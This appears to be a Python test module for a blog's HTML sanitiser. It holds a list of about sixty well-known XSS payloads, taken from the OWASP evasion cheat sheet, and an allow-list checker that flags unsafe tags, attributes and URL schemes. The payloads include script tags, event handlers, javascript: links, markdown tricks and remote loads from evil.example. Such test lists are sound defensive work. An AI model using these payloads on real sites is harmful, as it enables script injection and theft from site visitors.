"""Well-known XSS payloads, and a check of the HTML that they become.

Most payloads are those of https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from xml.etree.ElementTree import Element

import html5lib

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><svg/onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//>",
    '<img src="x" onerror="alert(1)',
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<picture><source srcset=//evil.example/x><img src=//evil.example/x></picture>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](<javascript:alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![" onerror="alert(1)](photo:p)',
    "![x](photo:p '\" onerror=\"alert(1)')",
    '![x](photo:p"onerror=alert(1))',
    '[x](https://a.example/"onmouseover=alert(1))',
    'https://a.example/"onmouseover="alert(1)',
    '``` "onclick=alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "# <a name=x id=location>x</a>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "\u2028\u2029</script>",
    "{{ 7 * 7 }}{% raw %}",
)

_ATTRIBUTES = {
    *("alt", "class", "decoding", "fetchpriority", "height", "href", "id", "loading", "rel", "sizes", "src"),
    *("srcset", "start", "tabindex", "title", "type", "width"),
}
_TAGS = {
    *("a", "blockquote", "br", "code", "del", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr", "img"),
    *("div", "kbd", "li", "ol", "p", "picture", "pre", "s", "source", "strong", "sub", "sup", "table", "tbody"),
    *("td", "th", "thead", "tr", "ul"),
}


def faults(html: str) -> list[str]:
    """Return everything in the fragment *html* that is not plain text, a link or a photo of the blog."""
    fragment = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return [fault for element in fragment.iter() if element is not fragment for fault in _faults(element)]


def _faults(element: Element) -> Iterator[str]:
    if element.tag not in _TAGS:
        yield f"<{element.tag}>"
    for name, value in element.attrib.items():
        if name not in _ATTRIBUTES:
            yield f"{element.tag} {name}"
        if name == "href" and _scheme(value) not in ("", "http", "https", "mailto", "tel"):
            yield f"{name}={value}"
        if name in ("src", "srcset") and not value.startswith("/thumbnails/"):
            yield f"{name}={value}"


def _scheme(address: str) -> str:
    """Return the URL without white space, as browsers read it (https://url.spec.whatwg.org/#concept-basic-url-parser)."""
    found = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", address))
    return found[1].lower() if found else ""
